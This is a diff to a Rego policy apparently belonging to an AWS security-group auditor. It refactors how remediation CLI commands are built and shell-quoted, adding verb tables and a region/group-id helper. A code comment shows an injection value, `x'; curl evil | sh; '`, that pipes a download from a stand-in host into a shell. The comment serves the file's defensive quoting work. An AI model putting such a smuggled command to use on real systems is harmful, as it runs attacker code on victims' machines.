@@ -110,9 +110,14 @@ label(g) := sprintf("%s (%s)", [g.id, g.name])
 # Shell quoting. Names, descriptions and anything read from imported JSON are
 # attacker-controlled: a group named `x'; curl evil | sh; '` must not turn a
 # copied remediation command into a different command.
+#
+# The builders below run once per finding, and SGA007 can have a finding per
+# rule, so they keep function calls and builtins few (DESIGN.md §8).
 
 # shell_quote(s) wraps s in single quotes, closing and escaping any quote in s.
-shell_quote(s) := concat("", ["'", replace(s, "'", `'\''`), "'"])
+shell_quote(s) := sprintf("'%s'", [s]) if not contains(s, "'")
+
+else := sprintf("'%s'", [replace(s, "'", `'\''`)])
 
 # safe_word matches what needs no quoting: AWS ids, regions and CIDRs.
 safe_word := `^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`
@@ -122,6 +127,25 @@ safe_word := `^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`
 shell_word(s) := s if regex.match(safe_word, s)
 
 else := shell_quote(s)
+
+# safe_pair is safe_word twice, for target's one-regex fast path.
+safe_pair := `^[A-Za-z0-9][A-Za-z0-9._:/=+,@-]* [A-Za-z0-9][A-Za-z0-9._:/=+,@-]*$`
+
+# target(g) is "--region R --group-id ID", which every command names.
+target(g) := sprintf("--region %s --group-id %s", [g.region, g.id]) if {
+	regex.match(safe_pair, sprintf("%s %s", [g.region, g.id]))
+}
+
+else := sprintf("--region %s --group-id %s", [shell_word(g.region), shell_word(g.id)])
+
+# The CLI verbs per direction. A direction outside the contract finds no verb
+# and the command is "" rather than a guess.
+revoke_verb := {"ingress": "revoke-security-group-ingress", "egress": "revoke-security-group-egress"}
+
+describe_verb := {
+	"ingress": "update-security-group-rule-descriptions-ingress",
+	"egress": "update-security-group-rule-descriptions-egress",
+}
 
 # ---------------------------------------------------------------------------
 # AWS CLI shorthand for one rule, as --ip-permissions takes it:
@@ -155,22 +179,26 @@ else := sprintf("UserIdGroupPairs=[{UserId=%s,GroupId=%s%s}]", [r.peer.group_own
 else := sprintf("UserIdGroupPairs=[{GroupId=%s%s}]", [r.peer.group_id, extra])
 
 # ip_permission(g, r) is the shorthand of one rule, unquoted.
-ip_permission(g, r) := concat(",", [ip_protocol_part(r), peer_part(g, r, "")])
+ip_permission(g, r) := sprintf("%s,%s", [ip_protocol_part(r), peer_part(g, r, "")])
 
 # ---------------------------------------------------------------------------
 # Remediation commands.
 
 # revoke_command(g, r) removes one rule: by its id when the source had one,
 # else by its content (exported describe-security-groups JSON has no ids).
-revoke_command(g, r) := sprintf("aws ec2 revoke-security-group-%s --region %s --group-id %s --security-group-rule-ids %s", [
-	r.direction, shell_word(g.region), shell_word(g.id), shell_word(r.id),
+revoke_command(g, r) := sprintf("aws ec2 %s %s --security-group-rule-ids %s", [
+	revoke_verb[r.direction], target(g), shell_word(r.id),
 ]) if {
 	object.get(r, "id", "") != ""
 }
 
-else := sprintf("aws ec2 revoke-security-group-%s --region %s --group-id %s --ip-permissions %s", [
-	r.direction, shell_word(g.region), shell_word(g.id), shell_quote(ip_permission(g, r)),
-])
+else := sprintf("aws ec2 %s %s --ip-permissions %s", [
+	revoke_verb[r.direction], target(g), shell_quote(ip_permission(g, r)),
+]) if {
+	revoke_verb[r.direction]
+}
+
+else := ""
 
 # revoke_all_command(g) removes every rule of g, one command per direction
 # joined with && (ingress first), each listing all the rule ids.
@@ -179,8 +207,8 @@ revoke_all_command(g) := concat(" && ", [cmd |
 	cmd := revoke_direction_command(g, dir)
 ])
 
-revoke_direction_command(g, dir) := sprintf("aws ec2 revoke-security-group-%s --region %s --group-id %s --security-group-rule-ids %s", [
-	dir, shell_word(g.region), shell_word(g.id), concat(" ", ids),
+revoke_direction_command(g, dir) := sprintf("aws ec2 %s %s --security-group-rule-ids %s", [
+	revoke_verb[dir], target(g), concat(" ", ids),
 ]) if {
 	rules := [r | some r in g.rules; r.direction == dir]
 	count(rules) > 0
@@ -188,34 +216,35 @@ revoke_direction_command(g, dir) := sprintf("aws ec2 revoke-security-group-%s --
 	count(ids) == count(rules)
 }
 
-else := sprintf("aws ec2 revoke-security-group-%s --region %s --group-id %s --ip-permissions %s", [
-	dir, shell_word(g.region), shell_word(g.id), concat(" ", perms),
+else := sprintf("aws ec2 %s %s --ip-permissions %s", [
+	revoke_verb[dir], target(g), concat(" ", perms),
 ]) if {
 	perms := [shell_quote(ip_permission(g, r)) | some r in g.rules; r.direction == dir]
 	count(perms) > 0
 }
 
-# rule_description_placeholder is what the person fills in.
-rule_description_placeholder := `<why this rule exists>`
+# description_extra puts the placeholder a person fills in into the shorthand.
+description_extra := `,Description="<why this rule exists>"`
 
 # describe_rule_command(g, r) sets a rule's description. The --ip-permissions
 # form works with or without a rule id.
-describe_rule_command(g, r) := sprintf("aws ec2 update-security-group-rule-descriptions-%s --region %s --group-id %s --ip-permissions %s", [
-	r.direction, shell_word(g.region), shell_word(g.id),
-	shell_quote(concat(",", [
-		ip_protocol_part(r),
-		peer_part(g, r, sprintf(`,Description="%s"`, [rule_description_placeholder])),
-	])),
-])
+describe_rule_command(g, r) := sprintf("aws ec2 %s %s --ip-permissions %s", [
+	describe_verb[r.direction], target(g),
+	shell_quote(sprintf("%s,%s", [ip_protocol_part(r), peer_part(g, r, description_extra)])),
+]) if {
+	describe_verb[r.direction]
+}
+
+else := ""
 
 # delete_command(g) deletes an unused group.
-delete_command(g) := sprintf("aws ec2 delete-security-group --region %s --group-id %s", [shell_word(g.region), shell_word(g.id)])
+delete_command(g) := sprintf("aws ec2 delete-security-group %s", [target(g)])
 
 # replacement_command(g) creates a replacement group with a real description:
 # EC2 cannot change a group's description, and group names are unique per
 # VPC, so the replacement takes a new name; the interfaces then move to it.
 replacement_command(g) := sprintf(`aws ec2 create-security-group --region %s%s --group-name %s --description "<what this group is for>"`, [
-	shell_word(g.region), vpc_flag(g), shell_quote(concat("", [g.name, "-v2"])),
+	shell_word(g.region), vpc_flag(g), shell_quote(sprintf("%s-v2", [g.name])),
 ])
 
 vpc_flag(g) := sprintf(" --vpc-id %s", [shell_word(g.vpc_id)]) if object.get(g, "vpc_id", "") != ""
